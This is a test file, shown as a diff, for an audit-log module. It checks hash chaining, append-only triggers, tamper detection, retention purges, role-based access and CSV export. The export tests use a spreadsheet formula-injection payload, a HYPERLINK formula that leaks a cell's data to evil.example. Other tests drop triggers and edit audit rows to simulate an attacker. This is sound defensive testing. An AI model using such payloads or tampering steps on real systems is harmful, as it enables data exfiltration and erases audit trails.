@@ -1,0 +1,383 @@
+/**
+ * The audit log on both engines: hash-chained, append-only by trigger, tamper-evident when the
+ * triggers are gone, serialised under concurrent writes, purged only past retention, searched and
+ * exported only by the audit administrator, and exported with formula-injection guarded cells.
+ */
+import type { FastifyInstance } from 'fastify';
+import { sql } from 'kysely';
+import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
+import type { Role } from '../accounts/roles.js';
+import { auditCommand } from '../cli/audit.js';
+import { todayInChina } from '../core/dates.js';
+import { AppError } from '../core/errors.js';
+import { isSqlite } from '../db/dialect.js';
+import { buildApp } from '../http/app.js';
+import { SESSION_COOKIE } from '../http/auth.js';
+import type { OrgUnit } from '../org/repository.js';
+import type { Actor } from '../org/scope.js';
+import { testContext, type TestContext } from '../testing/context.js';
+import { smallTown, type Fixture } from '../testing/fixtures.js';
+import { writeAudit } from './audit.js';
+import { GENESIS_HASH } from './chain.js';
+import { auditCsv, searchAudit } from './query.js';
+import { latestPurgeDate, purgeAuditLog, setRetentionDays } from './retention.js';
+import { verifyAuditChain } from './verify.js';
+
+const clerk: Actor = { userId: 'u-clerk', name: '王干事', role: 'townOffice', ip: '10.0.0.8' };
+
+const dispute = (orgId: string, title = '两户因宅基地边界发生争执') => ({
+  orgId,
+  date: '2025-03-08',
+  title,
+  source: 'monthlyScreening',
+  category: 'neighbour',
+  status: 'registered',
+});
+
+const errorOf = async (promise: Promise<unknown>): Promise<Error> => {
+  try {
+    await promise;
+  } catch (error) {
+    if (error instanceof Error) return error;
+    throw error;
+  }
+  throw new Error('expected the call to fail');
+};
+
+const rowsOf = (ctx: TestContext) => ctx.db.kysely.selectFrom('audit_log').selectAll().orderBy('id').execute();
+
+/** What an attacker with database access does first: switch the triggers off. */
+async function dropTriggers(ctx: TestContext) {
+  if (isSqlite(ctx.db.kysely)) {
+    await sql`DROP TRIGGER audit_log_no_update`.execute(ctx.db.kysely);
+    await sql`DROP TRIGGER audit_log_no_delete`.execute(ctx.db.kysely);
+  } else {
+    await sql`ALTER TABLE audit_log DISABLE TRIGGER USER`.execute(ctx.db.kysely);
+  }
+}
+
+/** Captures what auditCommand prints. */
+async function runCli(ctx: TestContext, args: string[]) {
+  const out: string[] = [];
+  const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
+  const error = vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
+  try {
+    const code = await auditCommand(ctx, args);
+    return { code, output: out.join('\n') };
+  } finally {
+    log.mockRestore();
+    error.mockRestore();
+  }
+}
+
+describe('the chain and the triggers', () => {
+  let ctx: TestContext;
+  let f: Fixture;
+
+  beforeAll(async () => {
+    ctx = await testContext();
+    f = await smallTown(ctx);
+  });
+  afterAll(() => ctx?.close());
+
+  it('links every write to the one before; verify says OK with the row count', async () => {
+    const office = await f.as('townOffice');
+    for (const title of ['甲户与乙户宅基地纠纷', '丙户与丁户土地纠纷', '戊户与己户邻里纠纷']) await ctx.ledger.create(office, 'dispute', dispute(f.villageA.id, title));
+    await writeAudit(ctx.db.kysely, clerk, { action: 'login_failed', after: { username: 'nobody' } });
+
+    const rows = await rowsOf(ctx);
+    expect(rows.length).toBeGreaterThanOrEqual(4);
+    expect(rows[0]?.prev_hash).toBe(GENESIS_HASH);
+    rows.forEach((row, i) => {
+      expect(row.id).toBe(i + 1);
+      expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
+      if (i > 0) expect(row.prev_hash).toBe(rows[i - 1]?.hash);
+    });
+    expect(await verifyAuditChain(ctx.db)).toEqual({ ok: true, rows: rows.length, head: { id: rows.length, hash: rows[rows.length - 1]?.hash } });
+
+    const cli = await runCli(ctx, ['verify']);
+    expect(cli.code).toBe(0);
+    expect(cli.output).toContain('OK');
+    expect(cli.output).toContain(`共 ${rows.length} 条`);
+  });
+
+  it('refuses an UPDATE in the database itself, and the row stays as it was', async () => {
+    const [row] = await rowsOf(ctx);
+    if (!row) throw new Error('no audit rows');
+    const error = await errorOf(sql`update audit_log set after = ${'{"status":"resolved"}'} where id = ${row.id}`.execute(ctx.db.kysely));
+    expect(error.message).toContain('审计日志不可修改');
+    const error2 = await errorOf(ctx.db.kysely.updateTable('audit_log').set({ actor_name: '别人' }).execute());
+    expect(error2.message).toContain('审计日志不可修改');
+    expect((await rowsOf(ctx))[0]).toEqual(row);
+  });
+
+  it('refuses a DELETE of a row inside the retention period (and TRUNCATE on PostgreSQL)', async () => {
+    const before = await rowsOf(ctx);
+    const error = await errorOf(sql`delete from audit_log where id = ${before[1]?.id ?? 0}`.execute(ctx.db.kysely));
+    expect(error.message).toContain('保存期内的审计日志不可删除');
+    if (!isSqlite(ctx.db.kysely)) expect((await errorOf(sql`truncate audit_log`.execute(ctx.db.kysely))).message).toContain('审计日志不可清空');
+    expect(await rowsOf(ctx)).toEqual(before);
+  });
+
+  it('keeps the retention period at 180 days or more, in the service and in the database', async () => {
+    const system = { userId: null, name: '系统', role: 'system', ip: null } as const;
+    const error = await errorOf(setRetentionDays(ctx.db, system, 90));
+    expect(error).toBeInstanceOf(AppError);
+    expect((error as AppError).field).toBe('days');
+    expect(error.message).toContain('180');
+    await expect(ctx.db.kysely.updateTable('audit_setting').set({ retention_days: 90 }).execute()).rejects.toThrow();
+    expect((await ctx.db.kysely.selectFrom('audit_setting').select('retention_days').executeTakeFirstOrThrow()).retention_days).toBe(180);
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
+  });
+
+  it('keeps a valid chain under concurrent writes, numbered without gaps', async () => {
+    const office = await f.as('townOffice');
+    const before = (await rowsOf(ctx)).length;
+    await Promise.all([
+      ...Array.from({ length: 20 }, (_, i) => ctx.ledger.create(office, 'dispute', dispute(f.villageA.id, `并发登记的纠纷第${i + 1}件`))),
+      ...Array.from({ length: 5 }, (_, i) => writeAudit(ctx.db.kysely, clerk, { action: 'login_failed', after: { username: `guess${i}` } })),
+    ]);
+    const rows = await rowsOf(ctx);
+    expect(rows.length).toBe(before + 25);
+    expect(rows.map((r) => r.id)).toEqual(rows.map((_, i) => i + 1));
+    expect(new Set(rows.map((r) => r.prev_hash)).size).toBe(rows.length);
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: rows.length });
+  });
+
+  it('leaves no gap when the transaction around an audit write rolls back', async () => {
+    const before = await rowsOf(ctx);
+    await expect(
+      ctx.db.kysely.transaction().execute(async (trx) => {
+        await writeAudit(trx, clerk, { action: 'update', kind: 'dispute', recordId: 'r1' });
+        throw new Error('business rule failed after the audit row');
+      }),
+    ).rejects.toThrow('business rule failed');
+    await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: 'r2' });
+    const rows = await rowsOf(ctx);
+    expect(rows.length).toBe(before.length + 1);
+    expect(rows[rows.length - 1]).toMatchObject({ id: before.length + 1, record_id: 'r2' });
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
+  });
+});
+
+describe('tampering by someone with database access', () => {
+  let ctx: TestContext;
+
+  beforeAll(async () => {
+    ctx = await testContext();
+    for (let i = 1; i <= 6; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: `r${i}`, before: { status: 'registered' }, after: { status: 'mediating' } });
+    await dropTriggers(ctx);
+  });
+  afterAll(() => ctx?.close());
+
+  it('catches an edited row and names it; undoing the edit makes the chain whole again', async () => {
+    const row = (await rowsOf(ctx))[2];
+    if (!row) throw new Error('no row 3');
+    await sql`update audit_log set after = ${'{"status":"resolved"}'} where id = ${row.id}`.execute(ctx.db.kysely);
+
+    const report = await verifyAuditChain(ctx.db);
+    expect(report).toMatchObject({ ok: false, firstBad: { id: row.id } });
+    if (report.ok) return;
+    expect(report.firstBad.reason).toContain('被修改');
+    const cli = await runCli(ctx, ['verify']);
+    expect(cli.code).toBe(1);
+    expect(cli.output).toContain(`记录编号 ${row.id}`);
+
+    await sql`update audit_log set after = ${row.after} where id = ${row.id}`.execute(ctx.db.kysely);
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: 6 });
+  });
+
+  it('catches an edit that recomputed the row hash, at the next row', async () => {
+    const rows = await rowsOf(ctx);
+    const row = rows[1];
+    if (!row) throw new Error('no row 2');
+    const { rowHash } = await import('./chain.js');
+    const forged = { ...row, actor_name: '别人' };
+    await sql`update audit_log set actor_name = ${forged.actor_name}, hash = ${rowHash(row.prev_hash ?? '', forged)} where id = ${row.id}`.execute(ctx.db.kysely);
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: false, firstBad: { id: row.id + 1 } });
+    await sql`update audit_log set actor_name = ${row.actor_name}, hash = ${row.hash} where id = ${row.id}`.execute(ctx.db.kysely);
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
+  });
+
+  it('catches a deleted row in the middle, naming the row after the gap', async () => {
+    const rows = await rowsOf(ctx);
+    const victim = rows[3];
+    if (!victim) throw new Error('no row 4');
+    await sql`delete from audit_log where id = ${victim.id}`.execute(ctx.db.kysely);
+
+    const report = await verifyAuditChain(ctx.db);
+    expect(report).toMatchObject({ ok: false, firstBad: { id: victim.id + 1 } });
+    if (report.ok) return;
+    expect(report.firstBad.reason).toContain('删除');
+    expect((await runCli(ctx, ['verify'])).code).toBe(1);
+  });
+
+  it('catches the oldest rows deleted without a purge', async () => {
+    await sql`delete from audit_log where id = 1`.execute(ctx.db.kysely);
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: false, firstBad: { id: 2 } });
+  });
+});
+
+describe('retention and purge', () => {
+  let ctx: TestContext;
+  const DAY = 86_400_000;
+  const daysAgo = (n: number) => new Date(Date.now() - n * DAY);
+  const dateOf = (d: Date) => d.toISOString().slice(0, 10);
+
+  beforeAll(async () => {
+    ctx = await testContext();
+    // Rows from last year, written with the clock set back.
+    vi.useFakeTimers({ toFake: ['Date'] });
+    vi.setSystemTime(daysAgo(400));
+    for (let i = 1; i <= 3; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'create', kind: 'dispute', recordId: `old${i}` });
+    vi.useRealTimers();
+    for (let i = 1; i <= 2; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'create', kind: 'dispute', recordId: `new${i}` });
+  });
+  afterEach(() => vi.useRealTimers());
+  afterAll(() => ctx?.close());
+
+  it('refuses a date inside the retention period and deletes nothing', async () => {
+    const latest = await latestPurgeDate(ctx.db);
+    expect(latest <= dateOf(daysAgo(179))).toBe(true);
+    const tooRecent = dateOf(daysAgo(30));
+    const error = await errorOf(purgeAuditLog(ctx.db, clerk, tooRecent));
+    expect(error).toBeInstanceOf(AppError);
+    expect((error as AppError).field).toBe('before');
+    expect(error.message).toContain('180');
+
+    const cli = await runCli(ctx, ['purge', '--before', tooRecent]);
+    expect(cli.code).toBe(2);
+    expect(cli.output).toContain('保存期');
+    expect((await rowsOf(ctx)).length).toBe(5);
+  });
+
+  it('deletes only rows past retention, records the purge, and the rest still verifies', async () => {
+    const cli = await runCli(ctx, ['purge', '--before', dateOf(daysAgo(200))]);
+    expect(cli.code, cli.output).toBe(0);
+    const rows = await rowsOf(ctx);
+    expect(rows.map((r) => r.record_id)).toEqual(['new1', 'new2', null]);
+    const purge = rows[2];
+    expect(purge).toMatchObject({ id: 6, action: 'purge_audit', actor_name: '系统（命令行）' });
+    expect(JSON.parse(purge?.after ?? '{}')).toMatchObject({ deleted: 3, throughId: 3, anchor: rows[0]?.prev_hash });
+    expect(await verifyAuditChain(ctx.db)).toEqual({ ok: true, rows: 3, head: { id: 6, hash: purge?.hash } });
+  });
+
+  it('still catches the oldest remaining rows deleted behind the purge', async () => {
+    await dropTriggers(ctx);
+    await sql`delete from audit_log where id = 4`.execute(ctx.db.kysely);
+    const report = await verifyAuditChain(ctx.db);
+    expect(report).toMatchObject({ ok: false, firstBad: { id: 5 } });
+  });
+});
+
+describe('search and export', () => {
+  let ctx: TestContext;
+  let f: Fixture;
+  let app: FastifyInstance;
+  const PASSWORD = 'Fazhi#2025-test';
+  let n = 0;
+
+  async function signIn(role: Role, unit: OrgUnit | { id: string; name: string }): Promise<string> {
+    n += 1;
+    const username = `audit.${role.toLowerCase()}.${n}`;
+    await ctx.accounts.createUser({ username, password: PASSWORD, displayName: `${unit.name}${role}${n}`, role, orgId: unit.id });
+    const res = await app.inject({ method: 'POST', url: '/api/session', payload: { username, password: PASSWORD } });
+    expect(res.statusCode, res.body).toBe(200);
+    const cookie = res.cookies.find((c) => c.name === SESSION_COOKIE);
+    if (!cookie) throw new Error('no session cookie');
+    return cookie.value;
+  }
+  const get = (token: string | undefined, url: string) => app.inject({ method: 'GET', url, ...(token ? { cookies: { [SESSION_COOKIE]: token } } : {}) });
+
+  const evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
+  let rootAdmin: string;
+  let townAdmin: string;
+
+  beforeAll(async () => {
+    ctx = await testContext();
+    f = await smallTown(ctx);
+    app = await buildApp(ctx);
+    await app.ready();
+    await writeAudit(ctx.db.kysely, { ...clerk, name: evil }, { action: 'update', kind: 'dispute', recordId: 'rx', orgId: f.villageA.id, before: { title: '+1' }, after: { title: '@SUM(A1:A9)' } });
+    await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: 'ry', orgId: f.otherVillage.id, after: { title: '-2+3' } });
+    rootAdmin = await signIn('auditAdmin', { id: f.system.orgId, name: '自治区' });
+    townAdmin = await signIn('auditAdmin', f.town);
+  });
+  afterAll(async () => {
+    await app?.close();
+    await ctx?.close();
+  });
+
+  it('lets only the audit administrator search or export: 401 signed out, 403 for every other role', async () => {
+    for (const url of ['/api/audit', '/api/audit/export']) expect((await get(undefined, url)).statusCode).toBe(401);
+    for (const role of ['systemAdmin', 'securityAdmin', 'townOffice', 'leader', 'countyReviewer'] as const) {
+      const token = await signIn(role, role === 'countyReviewer' ? f.county : f.town);
+      for (const url of ['/api/audit', '/api/audit/export']) {
+        const res = await get(token, url);
+        expect(res.statusCode, `${role} ${url}`).toBe(403);
+        expect(res.json()).toMatchObject({ error: { id: 'forbidden' } });
+      }
+    }
+    expect((await get(rootAdmin, '/api/audit')).statusCode).toBe(200);
+  });
+
+  it('searches newest first with filters and pages', async () => {
+    const res = await get(rootAdmin, '/api/audit?action=update&kind=dispute&pageSize=1');
+    expect(res.statusCode, res.body).toBe(200);
+    const body = res.json<{ items: Array<{ recordId: string; actionLabel: string; after: unknown }>; total: number; page: number }>();
+    expect(body.total).toBe(2);
+    expect(body.items).toHaveLength(1);
+    expect(body.items[0]).toMatchObject({ recordId: 'ry', actionLabel: '修改', after: { title: '-2+3' } });
+    const page2 = (await get(rootAdmin, '/api/audit?action=update&kind=dispute&pageSize=1&page=2')).json<{ items: Array<{ recordId: string }> }>();
+    expect(page2.items.map((i) => i.recordId)).toEqual(['rx']);
+
+    const byActor = (await get(rootAdmin, `/api/audit?actor=${encodeURIComponent('HYPERLINK')}`)).json<{ items: Array<{ recordId: string }> }>();
+    expect(byActor.items.map((i) => i.recordId)).toEqual(['rx']);
+    const byOrg = (await get(rootAdmin, `/api/audit?org=${f.otherTown.id}`)).json<{ items: Array<{ recordId: string }> }>();
+    expect(byOrg.items.map((i) => i.recordId)).toEqual(['ry']);
+    const today = todayInChina();
+    const none = (await get(rootAdmin, `/api/audit?from=2020-01-01&to=2020-12-31`)).json<{ total: number }>();
+    expect(none.total).toBe(0);
+    expect((await get(rootAdmin, `/api/audit?from=2020-01-01&to=${today}&recordId=rx`)).json<{ total: number }>().total).toBe(1);
+  });
+
+  it('names the field of a bad filter', async () => {
+    const res = await get(rootAdmin, '/api/audit?from=2025-13-01');
+    expect(res.statusCode).toBe(400);
+    expect(res.json()).toMatchObject({ error: { id: 'validation', field: 'from' } });
+    expect(res.json<{ error: { message: string } }>().error.message).toContain('「开始日期」');
+  });
+
+  it('shows an administrator below the root only rows about its own subtree', async () => {
+    const ids = (await get(townAdmin, '/api/audit?kind=dispute')).json<{ items: Array<{ recordId: string }> }>().items.map((i) => i.recordId);
+    expect(ids).toEqual(['rx']);
+    expect((await get(townAdmin, `/api/audit?org=${f.otherTown.id}`)).statusCode).toBe(404);
+  });
+
+  it('exports CSV for Excel: BOM, Chinese header, formula cells neutralised; the export is audited', async () => {
+    const res = await get(rootAdmin, '/api/audit/export?kind=dispute');
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(String(res.headers['content-disposition'])).toContain("filename*=UTF-8''");
+    expect(res.body.startsWith('\uFEFF编号,时间（北京时间）,操作人')).toBe(true);
+    const lines = res.body.split('\r\n').filter(Boolean);
+    expect(lines).toHaveLength(3);
+    expect(lines[2]).toContain(`"'${evil.replace(/"/g, '""')}"`);
+    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const exported = await ctx.db.kysely.selectFrom('audit_log').selectAll().where('action', '=', 'export_audit').execute();
+    expect(exported).toHaveLength(1);
+    expect(JSON.parse(exported[0]?.after ?? '{}')).toEqual({ kind: 'dispute' });
+    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
+  });
+
+  it('neutralises cells in the CSV the service produces, whatever field holds the formula', async () => {
+    let csv = '';
+    for await (const chunk of auditCsv(ctx.db, f.system, { recordId: 'rx' })) csv += chunk;
+    const cells = csv.split('\r\n')[1] ?? '';
+    expect(cells).toContain(`"'${evil.replace(/"/g, '""')}"`);
+    // JSON values start with { so they are safe as they are; the cells that start with = + - @ are not.
+    expect(cells).toContain('"{""title"":""+1""}"');
+    const found = await searchAudit(ctx.db, f.system, { recordId: 'rx' });
+    expect(found.items[0]?.actorName).toBe(evil);
+  });
+});
